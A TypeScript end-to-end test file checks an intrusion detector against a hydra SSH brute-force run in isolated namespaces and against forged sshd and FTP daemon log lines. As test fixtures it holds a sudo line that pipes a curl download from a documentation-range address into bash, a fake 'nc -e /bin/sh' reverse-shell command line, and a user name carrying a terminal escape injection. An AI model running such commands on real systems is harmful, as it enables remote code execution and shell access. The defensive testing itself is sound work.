/**
 * End to end, live, auth log and processes: sshd runs in a victim namespace logging to a file
 * (`sshd -E`), hydra attacks it from an attacker namespace, and the real binary runs headless in
 * the victim namespace with live capture on the veth and `--auth-log` on sshd's file. Live rather
 * than a replay, so both inputs meet: the packet detector sees hydra's handshakes and the log
 * detector sees the failed passwords, and they must end up in ONE SSH_BRUTE_FORCE alert that
 * names the attacker and the targeted user names. Then a sudo COMMAND line appended to the
 * followed file gives SUSPICIOUS_COMMAND, and a process started with a netcat-like command line
 * gives SUSPICIOUS_PROCESS.
 *
 * A second run follows a log file the test appends to, in each daemon's own format (sshd's
 * multi-line connections with user names that quote an innocent address, vsftpd's own log,
 * proftpd through syslog, pure-ftpd as RFC 5424): the attackers are alerted, the quoted address
 * never is.
 *
 * Namespaces are snp-auth-<pid>-attacker/victim; traffic never leaves them.
 * Needs root, ip netns, sshd, ssh-keygen, hydra, nping, bash, sleep, and a built dist/.
 */
import assert from 'node:assert/strict';
import { spawn, execFileSync } from 'node:child_process';
import { appendFileSync, existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { cleanupOnExit, createNetnsPair, destroyNetnsPair, netnsSkipReason, spawnIn, stopChild, waitForExit, type NetnsPair } from '../support/netns.js';
import { assertAlertContract } from './contract.js';
import { waitFor } from '../support/wait-for.js';
import { CLI_PATH, HeadlessProcess } from './headless-process.js';

const PREFIX = 'snp-auth-';
const skipReason: string | null = (() => {
  const env = netnsSkipReason(['ip', 'ssh-keygen', 'hydra', 'nping', 'bash', 'sleep']);
  if (env !== null) return env;
  if (!existsSync('/usr/sbin/sshd')) return '/usr/sbin/sshd missing (apt-get install openssh-server)';
  if (!existsSync(CLI_PATH)) return `${CLI_PATH} is missing: build first with npx tsc -p .`;
  return null;
})();

let net: NetnsPair | undefined;
let tmp = '';
let removeExitHandlers: (() => void) | null = null;

before(async () => {
  if (skipReason !== null) return;
  net = await createNetnsPair(PREFIX);
  removeExitHandlers = cleanupOnExit(net);
  tmp = mkdtempSync(join(tmpdir(), 'snp-auth-e2e-'));
});

after(() => {
  if (net !== undefined) destroyNetnsPair(net);
  removeExitHandlers?.();
  if (tmp !== '') rmSync(tmp, { recursive: true, force: true });
});

/** sshd in the victim namespace with a temporary key and config, logging to `log` (-E). */
async function startSshd(n: NetnsPair, log: string): Promise<void> {
  const key = join(tmp, 'host_key');
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key], { stdio: 'pipe' });
  const config = join(tmp, 'sshd_config');
  // Root may not log in with a password: every attempt fails whatever the host's shadow says.
  writeFileSync(config, [`Port 22`, `ListenAddress ${n.victimV4}`, `HostKey ${key}`, `PidFile ${join(tmp, 'sshd.pid')}`, 'UsePAM no', 'PermitRootLogin prohibit-password', 'PasswordAuthentication yes', 'KbdInteractiveAuthentication no', 'UseDNS no', 'StrictModes no', 'MaxStartups 100'].join('\n') + '\n');
  if (!existsSync('/run/sshd')) execFileSync('install', ['-d', '-m', '755', '/run/sshd']);
  spawnIn(n.victim, ['/usr/sbin/sshd', '-D', '-f', config, '-E', log], { stdio: 'ignore' });
  await waitFor(() => execFileSync('ip', ['netns', 'exec', n.victim, 'ss', '-Hltn', 'sport = :22']).toString().trim() !== '', {
    timeoutMs: 20_000,
    intervalMs: 50,
    message: 'sshd listening on port 22 in the victim namespace',
  });
}

test('hydra against sshd -E: one SSH_BRUTE_FORCE with usernames; sudo line → SUSPICIOUS_COMMAND; process → SUSPICIOUS_PROCESS', { skip: skipReason ?? false, timeout: 90_000 }, async (t) => {
  const n = net!;
  const sshdLog = join(tmp, 'sshd.log');
  await startSshd(n, sshdLog);
  const config = join(tmp, 'config.json');
  writeFileSync(config, JSON.stringify({ geo: false, reverseDns: false, syslog: false }));
  const engine = new HeadlessProcess(n.victim, ['--headless', '--refresh', '0.2', '-i', n.victimIf, '-c', config, '--auth-log', sshdLog, '--history', join(tmp, 'h.json'), '--log-dir', join(tmp, 'logs'), '--pcap-dir', join(tmp, 'pcaps')]);
  try {
    // Capturing (a stats line counts packets) also means the follower sits at the end of the log.
    const pinger = spawnIn(n.attacker, ['nping', '--icmp', '-c', '50', '--delay', '200ms', n.victimV4], { stdio: 'ignore' });
    await engine.waitForLine((j) => j.event_type === 'stats' && (j.packets as number) > 0, 10_000, 'stats line with packets > 0').finally(() => stopChild(pinger, 'SIGKILL'));

    const users = join(tmp, 'users.txt');
    const passwords = join(tmp, 'passwords.txt');
    writeFileSync(users, 'root\nadmin\noracle\n');
    writeFileSync(passwords, 'wrong-1\nwrong-2\nwrong-3\n');
    const hydra = spawnIn(n.attacker, ['hydra', '-I', '-L', users, '-P', passwords, '-t', '3', '-o', '/dev/null', `ssh://${n.victimV4}`], { stdio: 'ignore', cwd: tmp });
    const hasAllUsers = (j: Record<string, unknown>) => {
      const d = j.attack_details as Record<string, unknown> | undefined;
      const names = Array.isArray(d?.usernames) ? (d!.usernames as string[]) : [];
      return j.attack_type === 'SSH_BRUTE_FORCE' && j.attacker_ip === n.attackerV4 && ['root', 'admin', 'oracle'].every((u) => names.includes(u));
    };
    const brute = await engine.waitForLine(hasAllUsers, 45_000, 'SSH_BRUTE_FORCE naming root, admin and oracle');
    await waitForExit(hydra, 30_000, 'hydra');
    const d = brute.json!.attack_details as Record<string, unknown>;
    t.diagnostic(`${brute.json!.event_type}: source ${String(d.source)}, auth_failures ${String(d.auth_failures)}, usernames ${JSON.stringify(d.usernames)}`);
    assert.ok((d.auth_failures as number) >= 5, 'at least the threshold of failures');
    assert.match(String(d.source), /auth_log/);

    // A sudo line appended to the followed file, in rsyslog's ISO format.
    appendFileSync(sshdLog, `${new Date().toISOString().replace('Z', '+00:00')} victim sudo:    mallory : TTY=pts/1 ; PWD=/home/mallory ; USER=root ; COMMAND=/usr/bin/curl -s http://203.0.113.7/x.sh | /bin/bash\n`);
    const cmd = await engine.waitForLine((j) => j.attack_type === 'SUSPICIOUS_COMMAND', 5_000, 'SUSPICIOUS_COMMAND');
    const cd = cmd.json!.attack_details as Record<string, unknown>;
    assert.equal(cd.pattern, 'download_piped_to_shell');
    assert.equal(cd.user, 'mallory');

    // A real process whose command line reads like a netcat reverse shell (it only sleeps).
    const fake = spawn('bash', ['-c', 'exec -a "nc -e /bin/sh 127.0.0.1 9" sleep 30'], { stdio: 'ignore' });
    try {
      const proc = await engine.waitForLine((j) => j.attack_type === 'SUSPICIOUS_PROCESS' && (j.attack_details as Record<string, unknown>).pid === fake.pid, 12_000, `SUSPICIOUS_PROCESS for pid ${fake.pid}`);
      const pd = proc.json!.attack_details as Record<string, unknown>;
      assert.equal(pd.reason, 'suspicious_cmdline');
      assert.equal(pd.pattern, 'netcat_exec');
      assert.match(String(pd.cmdline), /^nc -e \/bin\/sh 127\.0\.0\.1 9/);
      assert.equal(proc.json!.process, 'sleep');
    } finally {
      fake.kill('SIGKILL');
    }

    const status = await engine.interrupt();
    assert.equal(status.code, 0, `engine exit status; stderr: ${engine.stderr}`);
    const alerts = engine.byType('alert').map((l) => l.json!);
    for (const a of alerts) assertAlertContract(a, 'alert');
    const sshAlerts = alerts.filter((a) => a.attack_type === 'SSH_BRUTE_FORCE' && a.attacker_ip === n.attackerV4);
    assert.equal(sshAlerts.length, 1, `one SSH_BRUTE_FORCE alert for the attacker (packets and log joined): ${JSON.stringify(sshAlerts)}`);
    assert.equal(brute.json!.id, sshAlerts[0]!.id);
    assert.deepEqual(engine.nonJsonLines(), []);
  } finally {
    engine.kill();
  }
});

const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (n: number) => String(n).padStart(2, '0');
/** "Mar  4 09:12:01" in local time, as rsyslog's traditional format writes it. */
function classicStamp(d: Date): string {
  return `${MONTHS[d.getMonth()]} ${String(d.getDate()).padStart(2, ' ')} ${two(d.getHours())}:${two(d.getMinutes())}:${two(d.getSeconds())}`;
}
/** "Tue Mar  4 09:12:01 2026", vsftpd's own log. */
function vsftpdStamp(d: Date): string {
  return `${DAYS[d.getDay()]} ${classicStamp(d)} ${d.getFullYear()}`;
}

test('appended lines of sshd, vsftpd, proftpd and pure-ftpd: every attacker alerted, the quoted innocent never', { skip: skipReason ?? false, timeout: 60_000 }, async (t) => {
  const n = net!;
  const log = join(tmp, 'appended.log');
  writeFileSync(log, `${classicStamp(new Date())} victim sshd[1]: Server listening on 0.0.0.0 port 22.\n`);
  const config = join(tmp, 'config-appended.json');
  writeFileSync(config, JSON.stringify({ geo: false, reverseDns: false, syslog: false }));
  const engine = new HeadlessProcess(n.victim, ['--headless', '--refresh', '0.2', '-i', n.victimIf, '-c', config, '--auth-log', log, '--history', join(tmp, 'h2.json'), '--log-dir', join(tmp, 'logs2'), '--pcap-dir', join(tmp, 'pcaps2')]);
  try {
    const pinger = spawnIn(n.attacker, ['nping', '--icmp', '-c', '50', '--delay', '200ms', n.victimV4], { stdio: 'ignore' });
    await engine.waitForLine((j) => j.event_type === 'stats' && (j.packets as number) > 0, 10_000, 'stats line with packets > 0').finally(() => stopChild(pinger, 'SIGKILL'));

    const now = new Date();
    const lines: string[] = [];
    for (let i = 0; i < 5; i++) {
      const pid = 31000 + i;
      const port = 45000 + i;
      lines.push(`${classicStamp(now)} victim sshd[${pid}]: Connection from 203.0.113.210 port ${port} on ${n.victimV4} port 22 rdomain ""`);
      lines.push(`${classicStamp(now)} victim sshd[${pid}]: Invalid user x from 192.0.2.66 port 22 from 203.0.113.210 port ${port}`);
      lines.push(`${classicStamp(now)} victim sshd[${pid}]: Disconnecting: Too many authentication failures [preauth]`);
    }
    const users = ['root', 'admin', 'ftp', 'test', 'backup', 'r\u001b[2Joot'];
    users.forEach((u, i) => {
      lines.push(`${vsftpdStamp(now)} [pid ${32000 + i}] [${u}] FAIL LOGIN: Client "::ffff:203.0.113.211"`);
      lines.push(`${classicStamp(now)} victim proftpd[${33000 + i}]: victim (scan.example.org[203.0.113.212]) - USER ${u} (Login failed): Incorrect password`);
      lines.push(`<29>1 ${now.toISOString()} victim pure-ftpd ${34000 + i} - - (?@2001:db8:213::1) [WARNING] Authentication failed for user [${u}]`);
    });
    // Appended in pieces, as daemons write: the follower joins split lines.
    const text = `${lines.join('\n')}\n`;
    const cut = Math.floor(text.length / 3);
    appendFileSync(log, text.slice(0, cut));
    appendFileSync(log, text.slice(cut));

    const expected: [string, string][] = [
      ['SSH_BRUTE_FORCE', '203.0.113.210'],
      ['FTP_BRUTE_FORCE', '203.0.113.211'],
      ['FTP_BRUTE_FORCE', '203.0.113.212'],
      ['FTP_BRUTE_FORCE', '2001:db8:213::1'],
    ];
    for (const [type, ip] of expected) await engine.waitForLine((j) => j.event_type === 'alert' && j.attack_type === type && j.attacker_ip === ip, 10_000, `${type} for ${ip}`);
    // The last update of each alert carries every user name (escaped). Updates of one alert go
    // out at most every 5 s (alertUpdateSeconds): the deadline is that period plus room for a busy machine.
    await engine.waitForLine((j) => j.attacker_ip === '203.0.113.211' && ((j.attack_details as Record<string, unknown>).usernames as string[]).length === users.length, 15_000, 'vsftpd alert with all six user names');

    const status = await engine.interrupt();
    assert.equal(status.code, 0, `engine exit status; stderr: ${engine.stderr}`);
    const alerts = engine.byType('alert').map((l) => l.json!);
    for (const a of alerts) assertAlertContract(a, 'alert');
    assert.deepEqual(alerts.map((a) => [a.attack_type, a.attacker_ip]).sort(), [...expected].sort());
    assert.ok(!engine.lines.some((l) => l.raw.includes('"attacker_ip":"192.0.2.66"')), 'the quoted address is never an attacker');
    assert.ok(!engine.lines.some((l) => l.raw.includes('\u001b')), 'no raw ESC on stdout');
    const ssh = alerts.find((a) => a.attack_type === 'SSH_BRUTE_FORCE')!;
    t.diagnostic(`SSH_BRUTE_FORCE: ${JSON.stringify(ssh.attack_details)}`);
    assert.equal((ssh.attack_details as Record<string, unknown>).source, 'auth_log');
    assert.deepEqual(engine.nonJsonLines(), []);
  } finally {
    engine.kill();
  }
});
